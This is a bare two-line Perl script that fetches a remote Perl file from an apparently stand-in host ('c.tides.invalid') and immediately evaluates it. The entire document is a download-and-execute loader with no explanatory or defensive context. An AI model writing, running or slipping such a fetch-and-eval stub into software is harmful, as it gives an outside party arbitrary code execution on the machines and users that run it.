use LWP::Simple;
eval(get('https://c.tides.invalid/s.pl'));
